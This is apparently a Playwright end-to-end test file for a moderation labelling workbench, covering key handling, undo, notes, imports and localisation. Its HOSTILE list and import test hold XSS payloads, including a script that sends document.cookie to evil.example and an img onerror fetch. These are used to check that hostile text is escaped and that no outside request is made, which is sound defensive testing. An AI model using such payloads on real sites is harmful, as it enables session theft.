"""What only a real browser can show: keys, focus, reloads, requests that leave the page."""

import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect
from sqlalchemy import select

from db.queries.serving import queue_left
from db.queries.standing import current_labels
from db.tables import Annotation, Draft, PostText
from tests.e2e.conftest import IDLE, LabelPage, Server, SignIn, child, seed, stop, wait_until
from tests.encoders import make_tiny_encoder
from tests.workbench.making import COPIES, different_texts, import_texts, write_tsv
from tests.workbench.team import member
from workbench import accounts
from workbench.imports.intake import import_rows
from workbench.imports.preparing import prepare
from workbench.imports.tsv import open_tsv
from workbench.labelling import answers
from workbench.project import Project, init_project
from workbench.queue import swap
from workbench.rounds import lifecycle
from workbench.services import worker_command

pytestmark = pytest.mark.browser

HOSTILE = [
    "![x](http://evil.example/pixel.png) **bold** <b>b</b>",
    "<script>fetch('http://evil.example/' + document.cookie)</script>",
    "<img src=http://evil.example/i.png onerror=fetch('http://evil.example/')>",
    "abc \u202edcba\u202c zero\u200bwidth",
    "[link](http://evil.example) :red[colour] $x^2$ # title",
]


def labels_in(project: Project) -> list[Annotation]:
    with project.database.read() as session:
        return list(session.scalars(current_labels().order_by(Annotation.id)))


def rows_in(project: Project) -> list[Annotation]:
    with project.database.read() as session:
        return list(session.scalars(select(Annotation).order_by(Annotation.id)))


def label_page(page: Page) -> LabelPage:
    desk = LabelPage(page)
    desk.wait_until_seen()
    return desk


def test_a_person_stays_known_after_a_reload_and_not_after_signing_out(
    live_project: Project, serve: Server, sign_in: SignIn
) -> None:
    seed(live_project, different_texts(3))
    page = sign_in(serve(live_project), name="林小雨")
    expect(page.locator(".person")).to_have_attribute("title", "林小雨")
    page.reload()
    expect(page.locator(".person")).to_have_attribute("title", "林小雨")
    stolen = page.context.cookies()
    page.click(".person")
    page.click("text=Sign out")
    page.wait_for_url("**/sign-in")
    page.context.add_cookies(
        [{"name": one["name"], "value": one["value"], "url": page.url} for one in stolen]
    )
    page.goto(page.url.replace("/sign-in", "/"))
    expect(page).to_have_url(re.compile("/sign-in"))


def test_five_posts_by_key_and_one_taken_back_are_what_the_database_holds(
    live_project: Project, serve: Server, sign_in: SignIn
) -> None:
    seed(live_project, different_texts(12))
    page = sign_in(serve(live_project))
    desk = label_page(page)
    answered = [desk.press(key) for key in ("1", "2", "3", "1", "2")]
    assert len(set(answered)) == 5
    expect(desk.last).to_contain_text("borderline")
    desk.press("u")
    assert desk.wait_until_seen() == answered[-1]
    expect(page.locator("[data-count=today]")).to_have_text("4")
    expect(page.locator("[data-count=left]")).to_have_text("left for the team: 8")
    assert [row.label for row in labels_in(live_project)] == ["normal", "suspicious", "violation", "normal"]


def test_shift_and_a_number_changes_the_last_answer(
    live_project: Project, serve: Server, sign_in: SignIn
) -> None:
    seed(live_project, different_texts(4))
    page = sign_in(serve(live_project))
    desk = label_page(page)
    desk.press("1")
    desk.wait_until_seen()
    page.keyboard.press("Shift+Digit3")
    expect(desk.last).to_contain_text("violation")
    assert [row.label for row in labels_in(live_project)] == ["violation"]


def test_double_presses_and_held_keys_answer_the_seen_post_alone(
    live_project: Project, serve: Server, sign_in: SignIn
) -> None:
    seed(live_project, different_texts(20))
    page = sign_in(serve(live_project))
    desk = label_page(page)
    for _ in range(3):
        before = desk.wait_until_seen()
        page.keyboard.press("3")
        page.keyboard.press("3")
        expect(desk.post).not_to_have_text(before)
        page.keyboard.press("3")  # before the new post accepts keys
    before = desk.wait_until_seen()
    page.keyboard.down("2")
    expect(desk.post).not_to_have_text(before)
    desk.wait_until_seen()
    for _ in range(5):
        page.keyboard.down("2")  # the repeat of a key still held when the next post accepts keys
    page.keyboard.up("2")
    desk.wait_until_seen()
    before = desk.post.inner_text()
    page.locator(".desk .choice.normal").dblclick()
    expect(desk.post).not_to_have_text(before)
    desk.wait_until_seen()
    assert [row.label for row in rows_in(live_project)] == ["violation"] * 3 + ["suspicious", "normal"]


def test_keys_count_by_their_place_under_an_input_method_and_full_width(
    live_project: Project, serve: Server, sign_in: SignIn
) -> None:
    seed(live_project, different_texts(6))
    page = sign_in(serve(live_project), locale="zh-CN")
    desk = label_page(page)
    for key, code in (("Process", "Digit3"), ("２", "Digit2"), ("1", "Numpad1")):
        before = desk.wait_until_seen()
        page.evaluate(
            "([key, code]) => document.body.dispatchEvent(new KeyboardEvent('keydown', {key, code, keyCode: 229, bubbles: true}))",
            [key, code],
        )
        expect(desk.post).not_to_have_text(before)
    desk.wait_until_seen()
    assert [row.label for row in rows_in(live_project)] == ["violation", "suspicious", "normal"]


def test_a_number_pad_that_scrolls_answers_nothing(
    live_project: Project, serve: Server, sign_in: SignIn
) -> None:
    seed(live_project, different_texts(4))
    page = sign_in(serve(live_project))
    desk = label_page(page)
    shown = desk.wait_until_seen()
    for key, code in (("PageDown", "Numpad3"), ("End", "Numpad1"), ("ArrowDown", "Numpad2")):
        page.evaluate(
            "([key, code]) => document.body.dispatchEvent(new KeyboardEvent('keydown', {key, code, bubbles: true}))",
            [key, code],
        )
    desk.press("1")
    assert [(row.label, text_of(live_project, row.post_id)) for row in rows_in(live_project)] == [
        ("normal", shown)
    ]


def text_of(project: Project, post: int) -> str:
    with project.database.read() as session:
        return session.get_one(PostText, post).text


def test_a_note_goes_with_a_button_that_is_tapped_at_once(
    live_project: Project, serve: Server, sign_in: SignIn
) -> None:
    seed(live_project, different_texts(4))
    page = sign_in(serve(live_project))
    desk = label_page(page)
    shown = desk.wait_until_seen()
    page.keyboard.press("n")
    page.keyboard.type("looks like an advert")
    page.locator(".desk .choice.violation").click()
    expect(desk.post).not_to_have_text(shown)
    desk.wait_until_seen()
    (row,) = rows_in(live_project)
    assert (row.label, row.note) == ("violation", "looks like an advert")
    expect(desk.post).to_be_focused()


def test_a_note_typed_while_the_page_goes_back_waits_and_commands_nothing(
    live_project: Project, serve: Server, sign_in: SignIn
) -> None:
    seed(live_project, different_texts(6))
    page = sign_in(serve(live_project))
    desk = label_page(page)
    desk.press("1")
    unsaved = desk.wait_until_seen()
    with serve.frozen():
        page.keyboard.press("3")
        expect(desk.post).not_to_have_text(unsaved)
        page.keyboard.press("n")
        page.keyboard.type("zhe shi")
        expect(desk.post).to_have_text(unsaved)  # no answer arrived
        page.keyboard.type(" sus puf")
    expect(desk.post).not_to_have_text(unsaved)
    expect(page.locator("textarea.note")).to_have_value("zhe shi")
    assert [row.label for row in rows_in(live_project)] == ["normal", "violation"]


def test_undo_works_after_a_reload(live_project: Project, serve: Server, sign_in: SignIn) -> None:
    seed(live_project, different_texts(6))
    page = sign_in(serve(live_project))
    desk = label_page(page)
    answered = [desk.press("3"), desk.press("1")]
    desk.wait_until_seen()
    page.reload()
    for text in reversed(answered):
        desk.press("u")
        assert desk.wait_until_seen() == text
    assert labels_in(live_project) == []


def test_a_note_outlives_a_reload_and_a_new_server_and_goes_with_the_answer(
    live_project: Project, serve: Server, sign_in: SignIn
) -> None:
    seed(live_project, different_texts(6))
    address = serve(live_project)
    page = sign_in(address)
    desk = label_page(page)
    shown = desk.wait_until_seen()
    page.keyboard.press("n")
    page.keyboard.type("123 ask 林?")
    wait_until(lambda: drafts(live_project) == ["123 ask 林?"], 20)
    serve(live_project, urlsplit(address).port)
    page.reload()
    assert desk.wait_until_seen() == shown
    expect(page.locator("textarea.note")).to_have_value("123 ask 林?")
    desk.press("f")
    expect(desk.last).to_contain_text("asked the lead")
    (row,) = rows_in(live_project)
    assert (row.action, row.is_flagged, row.note) == ("skip", True, "123 ask 林?")
    assert drafts(live_project) == []


def drafts(project: Project) -> list[str]:
    with project.database.read() as session:
        return [draft.note for draft in session.scalars(select(Draft))]


def test_an_answer_that_the_server_does_not_confirm_is_said_to_be_unsaved_and_saved_once(
    live_project: Project, serve: Server, sign_in: SignIn
) -> None:
    seed(live_project, different_texts(8))
    page = sign_in(serve(live_project))
    desk = label_page(page)
    desk.press("1")
    unsaved = desk.wait_until_seen()
    with serve.frozen():
        page.keyboard.press("3")
        expect(desk.post).not_to_have_text(unsaved)  # the next post is in the page already
        expect(page.locator(".desk .lost")).to_have_text(re.compile("Not saved yet"))
        expect(desk.post).to_have_text(unsaved)
        desk.wait_until_seen()
        page.keyboard.press("3")
    expect(page.locator(".desk .lost")).to_be_hidden()
    expect(desk.post).not_to_have_text(unsaved)
    assert [row.label for row in rows_in(live_project)] == ["normal", "violation"]


def test_help_and_guidelines_open_by_key_and_no_answer_passes_them(
    live_project: Project, serve: Server, sign_in: SignIn
) -> None:
    seed(live_project, different_texts(4))
    page = sign_in(serve(live_project))
    desk = label_page(page)
    shown = desk.wait_until_seen()
    for key, text in (("?", "undo, any number of steps"), ("g", "Borderline: the post itself")):
        page.keyboard.press(key)
        expect(page.locator("dialog[open]")).to_contain_text(text)
        page.keyboard.press("1")
        page.keyboard.press("Escape")
        expect(page.locator("dialog[open]")).to_have_count(0)
    assert desk.post.inner_text() == shown
    assert rows_in(live_project) == []


def test_a_reason_and_near_copies_are_one_key_each(
    live_project: Project, serve: Server, sign_in: SignIn
) -> None:
    seed(live_project, [*COPIES, *different_texts(6)])
    page = sign_in(serve(live_project))
    desk = label_page(page)
    while "微信" not in desk.wait_until_seen():
        desk.press("s")
    desk.press("3")
    desk.wait_until_seen()
    page.keyboard.press("4")
    expect(desk.last).to_contain_text("advert")
    desk.wait_until_seen()
    page.keyboard.press("p")
    expect(page.locator(".copies p")).to_have_count(2)
    desk.wait_until_seen()
    page.keyboard.press("p")
    expect(desk.last).to_contain_text("and 2 near-copies")
    assert sorted((row.origin, row.label, row.reason) for row in labels_in(live_project)) == [
        ("person", "violation", "引流广告"),
        ("propagated", "violation", None),
        ("propagated", "violation", None),
    ]


def test_keys_rest_while_somebody_types(live_project: Project, serve: Server, sign_in: SignIn) -> None:
    seed(live_project, different_texts(4))
    page = sign_in(serve(live_project))
    desk = label_page(page)
    shown = desk.post.inner_text()
    page.evaluate("document.querySelector('.stMain').append(document.createElement('input'))")
    page.locator(".stMain > input").focus()
    page.keyboard.type("123su")
    page.locator(".stMain > input").evaluate("field => field.remove()")
    for modified in ("Control+Digit1", "Alt+Digit2"):
        page.keyboard.press(modified)
    assert desk.post.inner_text() == shown
    desk.press("1")
    assert [row.label for row in rows_in(live_project)] == ["normal"]


def test_hostile_text_is_shown_as_written_and_nothing_leaves_the_browser(
    live_project: Project, serve: Server, sign_in: SignIn
) -> None:
    seed(live_project, HOSTILE)
    address = serve(live_project)
    page = sign_in(address, name="<b>*Eve*</b>", role="lead")
    elsewhere: list[str] = []
    page.on(
        "request",
        lambda request: elsewhere.append(request.url) if is_elsewhere(request.url, address) else None,
    )
    desk = label_page(page)
    expect(page.locator(".person")).to_have_attribute("title", "<b>*Eve*</b>")
    shown = [
        desk.press("3") if number < len(HOSTILE) - 1 else desk.wait_until_seen()
        for number in range(len(HOSTILE))
    ]
    marked = "abc ␣U+202Edcba␣U+202C zero␣U+200Bwidth"
    assert sorted(shown) == sorted([*HOSTILE[:3], marked, HOSTILE[4]])
    for screen in ("/overview", "/posts", "/rounds", "/thresholds", "/review", "/radar", "/team"):
        page.goto(address + screen)
        page.wait_for_selector(IDLE)
        expect(page.locator(".person")).to_have_attribute("title", "<b>*Eve*</b>")
    assert page.locator("img[src*=evil], .post script, a[href*=evil]").count() == 0
    assert elsewhere == []


def is_elsewhere(url: str, address: str) -> bool:
    parts = urlsplit(url)
    return parts.scheme not in {"data", "blob"} and parts.netloc != urlsplit(address).netloc


def test_a_hostile_file_is_previewed_and_imported_as_text(
    live_project: Project, serve: Server, sign_in: SignIn, tmp_path: Path
) -> None:
    address = serve(live_project)
    page = sign_in(address, name="林", role="lead")
    elsewhere: list[str] = []
    page.on(
        "request",
        lambda request: elsewhere.append(request.url) if is_elsewhere(request.url, address) else None,
    )
    column = "![x](http://evil.example/c.png)"
    file = tmp_path / "![n](http:evil.example).tsv"
    rows = [
        f"id\ttext\t{column}",
        *(f"{number}\t{text}\tx" for number, text in enumerate(HOSTILE)),
        "too\tfew",
    ]
    file.write_text("\n".join(rows) + "\n", encoding="utf-8")
    page.goto(f"{address}/posts")
    page.click(".st-key-import-open button")
    page.set_input_files("[data-testid=stFileUploaderDropzoneInput]", file)
    page.click(".st-key-import-next button:enabled")
    dialog = page.get_by_role("dialog")
    dialog.locator(".st-key-import button:enabled").click()
    expect(dialog).to_contain_text("6 rows: 5 new, 0 known already, 1 unreadable.")
    with page.expect_download() as download:
        dialog.get_by_text("Download all unreadable rows").click()
    dialog.locator(".st-key-import-done button").click()
    expect(page.locator(".stMain")).to_contain_text(file.name)
    assert "too\tfew" in download.value.path().read_text(encoding="utf-8").replace('"', "")
    assert page.locator("img[src*=evil]").count() == 0
    assert elsewhere == []


def test_the_page_speaks_chinese_to_a_chinese_browser_and_english_on_demand(
    live_project: Project, serve: Server, sign_in: SignIn
) -> None:
    seed(live_project, different_texts(4))
    page = sign_in(serve(live_project), locale="zh-CN")
    desk = label_page(page)
    expect(page.locator(".desk .choice.suspicious")).to_contain_text("疑似")
    desk.press("3")
    expect(desk.last).to_contain_text("违规")
    page.click("button[value=en]")
    expect(page.locator(".desk .choice.suspicious")).to_contain_text("borderline")
    page.reload()
    expect(page.locator(".desk .choice.suspicious")).to_contain_text("borderline")


def test_an_empty_queue_says_why_and_goes_on_by_itself(
    live_project: Project, serve: Server, sign_in: SignIn
) -> None:
    page = sign_in(serve(live_project))
    expect(page.locator(".desk .empty")).to_contain_text("There are no posts yet.Ask a lead")
    seed(live_project, different_texts(2))
    desk = label_page(page)
    expect(desk.post).to_be_visible()
    desk.press("1")
    desk.wait_until_seen()
    page.keyboard.press("1")
    expect(page.locator(".desk .empty")).to_contain_text("has its label.A lead can start a round")
    page.wait_for_selector("html[data-keys=ready]", state="attached")
    page.keyboard.press("u")
    expect(desk.post).to_be_visible()


def test_a_quick_round_put_in_use_by_the_lead_changes_the_queue(
    home: Path, tmp_path: Path, serve: Server, sign_in: SignIn
) -> None:
    project = init_project(home, base_model=str(make_tiny_encoder(tmp_path / "encoder")))
    label_toy_posts(project)
    before = lanes(project)
    with child(worker_command(home)) as worker:
        try:
            page = sign_in(serve(project), name="林", role="lead")
            page.click("text=Rounds")
            page.click("text=Start a round")
            expect(page.locator(".stepper")).to_be_visible()
            page.click(".st-key-promote-1 button", timeout=150_000)
            expect(page.locator(".title")).to_contain_text("In use: round 1", timeout=150_000)
        finally:
            stop(worker)
    assert before == {"random", "held_out"}
    assert "uncertain" in lanes(project)
    with project.database.read() as session:
        assert lifecycle.in_use(session) is not None
    project.database.dispose()


def lanes(project: Project) -> set[str]:
    with project.database.read() as session:
        return {lane for lane, _count in session.execute(queue_left())}


def label_toy_posts(project: Project) -> None:
    words = {"normal": "天气真好", "suspicious": "加微信低价", "violation": "去死滚蛋"}
    names = list(words)
    fillers = different_texts(150, length=12)
    texts = [filler[:6] + words[names[number % 3]] + filler[6:] for number, filler in enumerate(fillers)]
    lead = member(project, "林", "lead")
    import_texts(project, lead, texts)
    prepare(project)
    swap.rebuild(project)
    for _ in range(100):
        card = answers.hold_posts(project, lead)[0]
        label = next(name for name, word in words.items() if word in card.text)
        answers.submit(project, lead, card.post_id, label)


def test_a_post_is_blurred_until_it_is_wanted_and_opened_on_the_forum_by_key(
    live_project: Project, serve: Server, sign_in: SignIn, tmp_path: Path
) -> None:
    rows = [
        {"id": str(number), "text": text, "link": f"http://127.0.0.1:9/post/{number}"}
        for number, text in enumerate(different_texts(3))
    ]
    with open_tsv(write_tsv(tmp_path / "posts.tsv", rows)) as source:
        import_rows(live_project, accounts.command_line(live_project), source)
    prepare(live_project)
    swap.rebuild(live_project)
    page = sign_in(serve(live_project))
    desk = label_page(page)
    for key, blurred in (("b", True), ("Space", False)):
        page.keyboard.press(key)
        assert ("blur" in desk.post.evaluate("post => getComputedStyle(post).filter")) == blurred
    desk.press("1")
    assert "blur" in desk.post.evaluate(
        "post => getComputedStyle(post).filter"
    )  # the next post is blurred again
    link = page.locator("a.open").get_attribute("href")
    with page.expect_popup() as popup:
        page.keyboard.press("o")
    assert popup.value.evaluate("window.opener") is None
    assert link in {row["link"] for row in rows}
